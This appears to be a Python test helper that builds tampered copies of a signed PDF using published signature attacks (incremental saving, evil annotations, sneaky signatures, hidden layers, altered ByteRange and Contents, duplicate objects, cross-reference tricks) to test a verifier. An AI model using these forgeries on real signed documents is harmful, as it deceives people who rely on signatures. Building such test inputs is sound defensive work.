"""Manipulated copies of a signed PDF, built as the published attacks build them, for
tests/e2e/sign_attacks.sh. Each command reads IN and writes OUT:

  attacks.py new-root IN OUT          an update of new objects only: a new catalog and page tree
                                      whose first page shows other text, the trailer's /Root moved
                                      to it (incremental saving attack, ISA)
  attacks.py appearance IN OUT BOX FROM
                                      BOX's empty widget given FROM's stamp as its appearance,
                                      with no signature value (evil annotation on a signature box)
  attacks.py annotation IN OUT       a FreeText annotation on page 1 ("承認済"), as a viewer writes
                                      one on a certified document (evil annotation)
  attacks.py new-field IN OUT         a new visible signature field on page 1 (sneaky signature)
  attacks.py hidden-layer IN OUT      an optional-content group, off, holding page 1's content: the
                                      page shows nothing (an optional-content state changed)
  attacks.py new-page IN OUT          a page added at the end
  attacks.py contents-zeroed IN OUT   the last signature's /Contents overwritten with zeros in place
  attacks.py contents-emptied IN OUT  the last signature written again with an empty /Contents
  attacks.py range-removed IN OUT     … without its /ByteRange
  attacks.py range-shortened IN OUT   … with a /ByteRange that stops 100 bytes short
  attacks.py range-overlapping IN OUT … with a /ByteRange whose second part starts inside its first
  attacks.py range-enlarged IN OUT    … with a /ByteRange reaching past the end of the file
  attacks.py duplicate IN OUT         one update holding page 1 twice: a forged copy, which its
                                      cross-reference names, and the honest one after it
  attacks.py into-gap IN OUT          an update whose cross-reference puts page 1 inside the last
                                      signature's /Contents (where no signature covers a byte)
  attacks.py prev-loop IN OUT         an update whose /Prev names its own cross-reference section
  attacks.py sign IN OUT BOX KEY CERT [--time D:…] [--after ATTACK]
                                      BOX signed with KEY/CERT by openssl cms, the way any signing
                                      tool would, optionally in the same update as ATTACK
"""

import sys
import zlib

sys.path.insert(0, __import__("os").path.dirname(__file__))
from pdf_forge import Name, Pdf, Ref, Stream, Update, sign_field, syntax  # noqa: E402

FORGED_TEXT = b"q 1 0 0 rg 100 400 200 80 re f Q"  # a red block where the text was


def new_root(pdf, u):
    """A second catalog over a second page tree; page 1 replaced by a copy with other content."""
    root = dict(pdf.root)
    pages = dict(pdf.get(root["/Pages"]))
    new_pages = u.new()
    kids = []
    for i, kid in enumerate(pages["/Kids"]):
        if i == 0:
            page = dict(pdf.get(kid))
            page["/Parent"] = new_pages
            page["/Contents"] = u.add(Stream({"/Filter": Name("/FlateDecode")}, zlib.compress(FORGED_TEXT)))
            kids.append(u.add(page))
        else:
            kids.append(kid)
    pages["/Kids"] = kids
    u.put(new_pages, pages)
    root["/Pages"] = new_pages
    u.trailer["/Root"] = u.add(root)


def appearance(pdf, u, box, source):
    """box's widget drawn with source's appearance, and no /V."""
    field_ref = pdf.field(box)
    field = dict(pdf.get(field_ref))
    field["/AP"] = pdf.get(pdf.field(source))["/AP"]
    u.put(field_ref, field)


def page_one(pdf, u):
    """Page 1's reference and a copy of its dictionary, to change and put back."""
    ref = pdf.get(pdf.root["/Pages"])["/Kids"][0]
    return ref, dict(pdf.get(ref))


def annotation(pdf, u):
    ref, page = page_one(pdf, u)
    note = u.add({"/Type": Name("/Annot"), "/Subtype": Name("/FreeText"), "/Rect": [400, 700, 560, 740],
                  "/Contents": "承認済", "/DA": "/Helv 12 Tf 1 0 0 rg", "/P": ref})
    page["/Annots"] = list(pdf.get(page.get("/Annots", []))) + [note]
    u.put(ref, page)


def new_field(pdf, u):
    ref, page = page_one(pdf, u)
    stamp = u.add(Stream({"/Type": Name("/XObject"), "/Subtype": Name("/Form"), "/BBox": [0, 0, 60, 60]},
                         b"q 1 0 0 RG 2 w 30 30 25 0 360 re S Q"))
    field = u.add({"/Type": Name("/Annot"), "/Subtype": Name("/Widget"), "/FT": Name("/Sig"), "/T": "教育長",
                   "/Rect": [300, 60, 360, 120], "/F": 4, "/P": ref, "/AP": {"/N": stamp}})
    page["/Annots"] = list(pdf.get(page.get("/Annots", []))) + [field]
    u.put(ref, page)
    form_ref = pdf.root["/AcroForm"]
    form = dict(pdf.get(form_ref))
    form["/Fields"] = list(form["/Fields"]) + [field]
    u.put(form_ref, form)


def hidden_layer(pdf, u):
    group = u.add({"/Type": Name("/OCG"), "/Name": "下書き"})
    root = dict(pdf.root)
    root["/OCProperties"] = {"/OCGs": [group], "/D": {"/OFF": [group]}}
    ref, page = page_one(pdf, u)
    resources = dict(pdf.get(page["/Resources"]))
    resources["/Properties"] = {"/L": group}
    page["/Resources"] = resources
    contents = page["/Contents"] if isinstance(page["/Contents"], list) else [page["/Contents"]]
    page["/Contents"] = [u.add(Stream({}, b"/OC /L BDC"))] + contents + [u.add(Stream({}, b"EMC"))]
    u.put(ref, page)
    u.put(pdf.root_ref, root)


def new_page(pdf, u):
    pages_ref = pdf.root["/Pages"]
    pages = dict(pdf.get(pages_ref))
    last = pdf.get(pages["/Kids"][-1])
    page = u.add({"/Type": Name("/Page"), "/Parent": pages_ref, "/MediaBox": last["/MediaBox"],
                  "/Contents": u.add(Stream({}, FORGED_TEXT))})
    pages["/Kids"] = list(pages["/Kids"]) + [page]
    pages["/Count"] = pages["/Count"] + 1
    u.put(pages_ref, pages)


def last_signature(pdf):
    """The reference and a copy of the signature dictionary that ends last in the file."""
    best = None
    for ref in pdf.acroform()["/Fields"]:
        v = pdf.get(ref).get("/V")
        if isinstance(v, Ref):
            sig = pdf.get(v)
            end = sig["/ByteRange"][2] + sig["/ByteRange"][3]
            if best is None or end > best[0]:
                best = (end, v, dict(sig))
    return best[1], best[2]


def resigned(change):
    """An update writing the last signature's dictionary again, changed by change(sig)."""
    def update(pdf, u):
        ref, sig = last_signature(pdf)
        change(sig)
        u.put(ref, sig)
    return update


def without_range(sig):
    del sig["/ByteRange"]


def shortened_range(sig):
    sig["/ByteRange"] = sig["/ByteRange"][:3] + [sig["/ByteRange"][3] - 100]


def overlapping_range(sig):
    r = sig["/ByteRange"]
    sig["/ByteRange"] = [0, r[1], r[1] - 40, r[3] + (r[2] - r[1]) + 40]


def enlarged_range(sig):
    sig["/ByteRange"] = sig["/ByteRange"][:3] + [sig["/ByteRange"][3] + 100000]


def emptied(sig):
    sig["/Contents"] = b""


def duplicate(pdf, u):
    ref, page = page_one(pdf, u)
    honest = syntax(page).encode()
    forged = dict(page)
    forged["/Contents"] = u.add(Stream({}, FORGED_TEXT))
    # The cross-reference names the forged copy; the honest one follows it under the same
    # number, where a reader that rebuilds the cross-reference by scanning would take it.
    u.put(ref, syntax(forged).encode() + b"\nendobj\n%d 0 obj\n" % ref.num + honest)


def zeroed(data):
    pdf = Pdf(data)
    _, sig = last_signature(pdf)
    start, end = sig["/ByteRange"][1] + 1, sig["/ByteRange"][2] - 1
    return data[:start] + b"0" * (end - start) + data[end:]


def into_gap(data):
    pdf = Pdf(data)
    _, sig = last_signature(pdf)
    u = Update(pdf)
    ref, page = page_one(pdf, u)
    inside = sig["/ByteRange"][1] + 10
    return u.write(extra_xref={ref.num: (inside, 0)})


def prev_loop(data):
    pdf = Pdf(data)
    u = Update(pdf)
    ref, page = page_one(pdf, u)
    page["/Rotate"] = 90
    u.put(ref, page)
    out = u.write()
    at = out.rindex(b"\nxref\n") + 1
    prev = b"/Prev %d" % pdf.last_xref()
    return out.replace(prev, (b"/Prev %d" % at).ljust(len(prev)))


BYTES = {"contents-zeroed": zeroed, "into-gap": into_gap, "prev-loop": prev_loop}

UPDATES = {"new-root": new_root, "annotation": annotation, "new-field": new_field, "hidden-layer": hidden_layer,
           "new-page": new_page, "contents-emptied": resigned(emptied), "range-removed": resigned(without_range),
           "range-shortened": resigned(shortened_range), "range-overlapping": resigned(overlapping_range),
           "range-enlarged": resigned(enlarged_range), "duplicate": duplicate}


def main(argv):
    cmd, src, dst = argv[1], argv[2], argv[3]
    pdf = Pdf(open(src, "rb").read())
    if cmd in BYTES:
        out = BYTES[cmd](pdf.data)
    elif cmd in UPDATES:
        u = Update(pdf)
        UPDATES[cmd](pdf, u)
        out = u.write()
    elif cmd == "appearance":
        u = Update(pdf)
        appearance(pdf, u, argv[4], argv[5])
        out = u.write()
    elif cmd == "sign":
        box, key, cert = argv[4], argv[5], argv[6]
        options = dict(zip(argv[7::2], argv[8::2]))
        before = None
        if options.get("--after") == "new-root":
            def before(u):
                new_root(pdf, u)
        elif options.get("--after"):
            raise SystemExit("unknown attack " + options["--after"])
        time = options.get("--time", "D:20261201093000+09'00'")
        if before:
            # The forged catalog first: the signature's update must then hold the new /Root.
            staged = Update(pdf)
            before(staged)
            pdf = Pdf(staged.write())
        out = sign_field(pdf, box, key, cert, signing_time=time)
    else:
        raise SystemExit(__doc__)
    open(dst, "wb").write(out)


if __name__ == "__main__":
    main(sys.argv)
